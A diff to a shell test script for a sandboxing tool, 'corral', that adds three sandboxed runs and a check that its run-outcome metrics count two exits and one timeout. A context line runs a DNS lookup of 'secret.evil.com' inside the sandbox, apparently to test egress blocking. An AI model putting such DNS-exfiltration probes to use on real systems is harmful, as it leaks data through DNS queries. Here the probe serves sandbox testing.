@@ -85,7 +85,12 @@ check_eq "a second one" 200 "$(fetch https://github.com/zen)"
 check_eq "a refused one" 000 "$(fetch https://example.com/)"
 corral exec m1 -- dig +short +tries=1 +time=2 secret.evil.com >/dev/null 2>&1
 sleep 0.5
+corral run m1 -- true >/dev/null 2>&1
+corral run m1 -- false >/dev/null 2>&1
+corral run m1 --timeout 1 -- 'sleep 20' >/dev/null 2>&1
 scrape "$TB_DIR/after"
+check_eq "runs by outcome: two exited, one timed out" "2 1" \
+	"$(delta corral_runs_total outcome=exited) $(delta corral_runs_total outcome=timed_out)"
 
 check_eq "creates went up by one" 1 "$(delta corral_sandbox_creates_total result=created)"
 check_eq "the create was timed" 1 "$(delta corral_sandbox_create_seconds_count)"
